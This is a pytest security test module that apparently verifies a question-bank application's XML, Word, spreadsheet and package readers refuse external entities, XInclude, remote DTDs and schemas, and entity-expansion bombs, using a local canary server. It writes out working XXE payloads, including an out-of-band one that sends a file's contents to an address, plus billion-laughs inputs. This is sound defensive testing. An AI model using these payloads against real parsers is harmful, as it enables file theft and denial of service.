"""FI-02: XML that asks for what is not its own, in every format that holds XML: nothing of this machine is read, nobody is called, nothing takes long."""

import base64
import http.server
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import suppress

import pytest

from question_bank.formats import reading, xml_tree
from question_bank.formats.unreadable import Unreadable
from tests.question_bank.formats.test_archive import repacked
from tests.question_bank.formats.test_word import document, p
from tests.question_bank.formats.test_xml_tree import ITEM, QUIZ, package
from tests.support import pace

SECRET = "what-stands-in-a-file-of-this-machine"


class _Canary(http.server.BaseHTTPRequestHandler):
    """Answers whatever asks it with the secret, and remembers that it was asked."""

    called: list[str]

    def do_GET(self) -> None:
        self.called.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f'<!ENTITY x "{SECRET}">'.encode())

    def log_message(self, *_words: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, list[str]]]:
    """A file and an address that nobody may ask, and who asked."""
    secret = tmp_path_factory.mktemp("secret") / "secret.txt"
    secret.write_text(SECRET)
    called: list[str] = []
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Canary", (_Canary,), {"called": called})) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield secret.as_uri(), f"http://127.0.0.1:{server.server_port}", called
        server.shutdown()


def quiz(head: str, words: str = "&x;", attributes: str = "") -> str:
    return head + QUIZ.format(words).replace("<quiz", f"<quiz {attributes}", 1)


def item(words: str, attributes: str = "") -> str:
    return ITEM.format("1", words).replace(' title="t"', f' title="t" {attributes}')


LAUGHS = "".join(f'<!ENTITY % l{n} "{f"%l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
SVG = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "{0}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><image l:href="{1}/svg"/>&x;</svg>'
)
RELATION = '<Relationships xmlns="r"><Relationship Id="r1" Type="x/{0}" Target="{1}" TargetMode="External"/></Relationships>'
PICTURE = '<w:p><w:r><w:drawing><a:blip r:embed="r1"/><a:blip r:link="r1"/></w:drawing></w:r></w:p>'

# {0} is the file, {1} the address.
DOCUMENTS = {
    "an entity of a file": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "{0}">]>'),
    "an entity of an address": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "{1}/general">]>'),
    "a public entity": quiz('<!DOCTYPE quiz [<!ENTITY x PUBLIC "-//x//y" "{1}/public">]>'),
    "an entity in an attribute": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "{0}">]>', attributes='a="&x;"'),
    "a parameter entity": quiz('<!DOCTYPE quiz [<!ENTITY % x SYSTEM "{1}/parameter"> %x;]>', "a"),
    "a file sent to an address": quiz(
        '<!DOCTYPE quiz [<!ENTITY % f SYSTEM "{0}"><!ENTITY % s "<!ENTITY &#37; o SYSTEM \'{1}/?%f;\'>">%s;%o;]>', "a"
    ),
    "a document type at an address": quiz('<!DOCTYPE quiz SYSTEM "{1}/quiz.dtd">'),
    "a public document type": quiz('<!DOCTYPE quiz PUBLIC "-//x//y" "{1}/public.dtd">'),
    "a document type in a file": quiz('<!DOCTYPE quiz SYSTEM "{0}">'),
    "an attribute's default": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "{0}"><!ATTLIST quiz a CDATA "&x;">]>', "a"),
    "an unparsed entity": quiz('<!DOCTYPE quiz [<!NOTATION n SYSTEM "{1}/n"><!ENTITY x SYSTEM "{1}/unparsed" NDATA n>]>', "a"),
    "a conditional section": quiz('<!DOCTYPE quiz [<![INCLUDE[<!ENTITY x SYSTEM "{0}">]]>]>'),
    "an entity behind comments": quiz('<!-- a --><?p i?>\n<!-- b -->\n<!DOCTYPE quiz [<!-- ] --><!ENTITY x SYSTEM "{0}">]>'),
    "an entity behind a declaration": quiz('<?xml version="1.0" standalone="no"?><!DOCTYPE quiz [<!ENTITY x SYSTEM "{0}">]>'),
    "an entity behind a bracket in quotes": quiz('<!DOCTYPE quiz [<!ATTLIST quiz a CDATA "]>"><!ENTITY x SYSTEM "{0}">]>'),
    "a declaration in small letters": quiz('<!doctype quiz [<!entity x system "{0}">]>'),
    "a document type without an end": '<!DOCTYPE quiz [<!ENTITY x SYSTEM "{0}">' + QUIZ.format("&x;"),
    "a document type inside": QUIZ.format('<!DOCTYPE q [<!ENTITY x SYSTEM "{0}">]>&x;'),
    "an entity by ftp": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">]>'),
    "an entity by a share": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "//127.0.0.1/share/x">]>'),
    "an entity by a wrapper": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={0}">]>'),
    "an entity by a device": quiz('<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///dev/zero">]>'),
    "laughs of parameters": quiz(f"<!DOCTYPE quiz [{LAUGHS} %l9;]>", "a"),
    "one large entity often": quiz(f'<!DOCTYPE quiz [<!ENTITY x "{"a" * 50_000}">]>', "&x;" * 50_000),
    "an entity of itself": quiz('<!DOCTYPE quiz [<!ENTITY x "&y;"><!ENTITY y "&x;">]>'),
    "included XML": item('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{1}/include"/>'),
    "included text": item('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{0}" parse="text"/>'),
    "an inclusion's second choice": item(
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="nowhere"><i:fallback><i:include href="{0}" parse="text"/></i:fallback></i:include>'
    ),
    "a style sheet's instruction": '<?xml-stylesheet type="text/xsl" href="{1}/style.xsl"?>' + item("甲"),
    "a schema's place": item("甲", 'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:x {1}/schema.xsd"'),
    "a schema without a name": item("甲", 'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{1}/none.xsd"'),
    "a base elsewhere": item('甲<img src="a.png" alt=""/>', 'xml:base="{1}/base/"'),
    "pictures elsewhere": item('甲<img src="{1}/a.png" alt=""/><object data="{0}" type="image/png"/><qti-stylesheet href="{1}/s.css" type="text/css"/>'),
    "a template of scoring elsewhere": ITEM.format("1", "甲").replace("</qti-item-body>", '</qti-item-body><qti-response-processing template="{1}/t"/>'),
    "a formula with a document type": QUIZ.format('<![CDATA[<math><!DOCTYPE m [<!ENTITY x SYSTEM "{0}">]><mi>&x;</mi></math>]]>'),
    "HTML that fetches": QUIZ.format('<![CDATA[<link rel="stylesheet" href="{1}/c"><img src="{1}/i"><iframe src="{0}"></iframe><embed src="{0}">]]>'),
    "a file's picture that is a drawing": QUIZ.format("a").replace(
        "</questiontext>", '<file name="a.svg" encoding="base64">{svg}</file></questiontext>'
    ).replace("<text>a", '<text>&lt;img src="@@PLUGINFILE@@/a.svg"&gt;'),
    "many namespaces": "<quiz " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)) + "/>",
    "comments without an end": "<quiz>" + "<!--" * 200_000,
    "instructions without an end": "<?a " * 200_000,
    "sections without an end": "<quiz>" + "<![CDATA[" * 200_000,
}  # fmt: skip


def packed(file: str, address: str) -> dict[str, bytes]:
    entity = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>'
    drawn = SVG.format(file, address)
    svg = '<img src="a.svg" alt=""/>'
    return {
        "a package whose drawing reads a file": package({"a.xml": ITEM.format("1", f"甲{svg}"), "a.svg": drawn}),
        "a package whose manifest names addresses": package(
            {
                "imsmanifest.xml": f'<manifest><resources base="{address}/"><resource type="imsqti_item_xmlv3p0" href="{address}/i.xml">'
                f'<file href="{file}"/></resource>'
                f'<resource type="imsqti_item_xmlv3p0" href="{file}"/></resources></manifest>',
                "a.xml": ITEM.format("1", "甲"),
            }
        ),
        "a package whose manifest has an entity": package({"imsmanifest.xml": entity + "<manifest>&x;</manifest>", "a.xml": ITEM.format("1", "甲")}),
        "a paper with an entity": document(p("1. 题&x;"), head=entity),
        "a paper whose parts lie elsewhere": document(
            p("1. 题（ A ）") + p("A. 甲 B. 乙") + PICTURE + '<w:altChunk r:id="r1"/>',
            {
                "word/_rels/document.xml.rels": RELATION.format("image", f"{address}/picture.png").encode(),
                "word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", f"{address}/template.dotm").encode(),
                "word/settings.xml": b'<w:settings xmlns:w="w"><w:attachedTemplate/></w:settings>',
            },
        ),
        "a paper whose numbers have an entity": document(p("1. 题（ A ）") + p("A. 甲 B. 乙"), {"word/numbering.xml": (entity + "<n>&x;</n>").encode()}),
        "a sheet whose words have an entity": repacked(
            lambda name, body: body.replace(b"<sst", entity.encode() + b"<sst", 1).replace("题".encode(), "题&x;".encode()) if "sharedStrings" in name else body
        ),
        "a sheet with an entity": repacked(
            lambda name, body: body.replace(b"<worksheet", entity.encode() + b"<worksheet", 1).replace(b"</worksheet>", b"&x;</worksheet>")
        ),
        "a sheet linked elsewhere": repacked(
            lambda _name, body: body,
            {"xl/externalLinks/_rels/externalLink1.xml.rels": RELATION.format("externalLinkPath", f"{address}/book.xlsx").encode(),
             "xl/worksheets/_rels/sheet1.xml.rels": RELATION.format("drawing", f"{address}/drawings/drawing1.xml").encode()},
        ),
    }  # fmt: skip


def harmless(content: bytes, outside: tuple[str, str, list[str]]) -> None:
    """Read a file: it is refused, or read without what is not its own."""
    found = ""
    with pace.within(2), suppress(Unreadable):
        found = repr(reading.read(content))
    assert SECRET not in found
    assert base64.b64encode(SECRET.encode()).decode()[:20] not in found
    assert outside[2] == []


@pytest.mark.parametrize("name", DOCUMENTS)
def test_fi_02_a_document_reads_nothing_but_itself(name: str, outside: tuple[str, str, list[str]]) -> None:
    file, address, _called = outside
    svg = base64.b64encode(SVG.format(file, address).encode()).decode()
    words = DOCUMENTS[name].replace("{0}", file).replace("{1}", address).replace("{svg}", svg)
    for content in (words.encode(), words.encode("utf-16"), words.encode("utf-16-be"), package({"a.xml": words})):
        if len(content) < 1_000_000 or content == words.encode():
            harmless(content, outside)


def test_fi_02_an_encoding_hides_nothing(outside: tuple[str, str, list[str]]) -> None:
    file, _address, _called = outside
    words = quiz(f'<!DOCTYPE quiz [<!ENTITY x SYSTEM "{file}">]>')
    for encoding in ("utf-7", "utf-32", "cp037", "utf-16-le", "gb18030"):
        harmless(f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + words.encode(encoding), outside)
        harmless((f'<?xml version="1.0" encoding="{encoding}"?>' + words).encode(encoding), outside)


def test_fi_02_packed_files_read_nothing_but_themselves(outside: tuple[str, str, list[str]]) -> None:
    for content in packed(*outside[:2]).values():
        harmless(content, outside)


def test_fi_02_a_fragment_reads_nothing_but_itself(outside: tuple[str, str, list[str]]) -> None:
    file, address, called = outside
    for entity in (f'SYSTEM "{file}"', f'SYSTEM "{address}/fragment"', '"inside"'):
        root = xml_tree.fragment(f"<!DOCTYPE m [<!ENTITY x {entity}>]><m>&x;</m>")
        assert xml_tree.text_of(root) in {"", "&x;"}
    assert SECRET not in xml_tree.text_of(xml_tree.page(f'<!DOCTYPE m [<!ENTITY x SYSTEM "{file}">]><p>&x;<object data="{file}"></object></p>'))
    assert called == []


def test_fi_02_the_canary_can_be_called(outside: tuple[str, str, list[str]]) -> None:
    """Whoever asks it is remembered: a harness that cannot fail proves nothing."""
    _file, address, called = outside
    with urllib.request.urlopen(f"{address}/asked") as answer:
        assert SECRET in answer.read().decode()
    assert called == ["/asked"]
    called.clear()
